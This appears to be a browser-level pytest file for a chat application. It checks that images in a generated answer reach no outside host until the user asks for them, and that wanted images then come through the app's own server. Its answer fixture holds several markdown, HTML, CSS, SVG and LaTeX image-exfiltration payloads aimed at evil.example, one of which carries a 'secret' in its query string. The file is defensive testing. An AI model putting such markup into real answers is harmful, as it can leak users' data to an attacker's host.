"""Pictures of an answer, in a real browser: a hostile one asks nothing of anybody, and one that is wanted comes through the server."""

import asyncio
import struct
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from alize.engine.fake import FakeEngine, saying
from tests.elsewhere import Elsewhere, picture
from tests.serving import TOKENIZER, Background, Desk, in_background

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.slow

ANSWER = """![The harbour](http://pictures.example/harbour.png?told=words) ![gone](http://pictures.example/gone.png)

![pixel](https://evil.example/pixel.png?told=my-secret) <img src="https://evil.example/html.png"> [![in](https://evil.example/n.png)](https://evil.example/)

<link rel="preload" href="https://evil.example/x" as="image"> <style>@import "https://evil.example/a.css"</style>
<svg><image href="https://evil.example/svg.png"/></svg> $\\includegraphics{https://evil.example/t.png}$ ![data](data:image/svg+xml,<svg/>)
"""


def png() -> bytes:
    """Two pixels that a browser can decode."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 2, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" + bytes((0, 80, 120, 200, 120, 40)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@contextmanager
def connected(house: Background) -> Iterator[Elsewhere]:
    """Have the application's wire end elsewhere, in its own loop."""
    there = Elsewhere({"/harbour.png?told=words": picture(png(), "text/html")})

    async def connect(desk: Desk) -> asyncio.Server:
        server = await asyncio.start_server(there.serve, "127.0.0.1", 0)
        there.port = server.sockets[0].getsockname()[1]
        desk.app.state.house = replace(desk.app.state.house, parts=replace(desk.parts, wire=there.wire))
        return server

    async def disconnect(_: Desk) -> None:
        server.close()
        await server.wait_closed()

    server = house.run(connect)
    try:
        yield there
    finally:
        house.run(disconnect)


def test_nothing_is_asked_of_another_host_and_what_is_wanted_comes_through_the_server(page: "Page", tmp_path: Path) -> None:
    engine = FakeEngine(saying(ANSWER, TOKENIZER))
    with in_background(tmp_path, engine=engine, auth=False, outside_hosts="pictures.example") as house, connected(house) as there:
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.goto(house.url)
        page.get_by_role("textbox", name="Message").fill("Show me")
        page.keyboard.press("Enter")
        show = page.get_by_role("button", name="Show image from pictures.example")
        show.nth(1).wait_for()
        page.get_by_text("settings allow no images from evil.example").first.wait_for()
        assert not [url for url in asked if not url.startswith(house.url) or "/api/outside" in url]
        assert there.asked == []

        show.nth(1).click()
        page.get_by_role("button", name="Try again: image from pictures.example").wait_for()
        show.click()
        harbour = page.get_by_role("img", name="The harbour")
        harbour.wait_for()
        assert harbour.evaluate("image => [image.naturalWidth, document.activeElement === image]") == [2, True]
        assert not [url for url in asked if not url.startswith(house.url)]
        assert [head.split(" ")[1] for head in there.heard] == ["/gone.png", "/harbour.png?told=words"]
        # That it was asked is said under the answer, also to who comes back.
        for come in (lambda: None, page.reload):
            come()
            page.get_by_text("sent to pictures.example").wait_for()
        page.close()  # its streams end
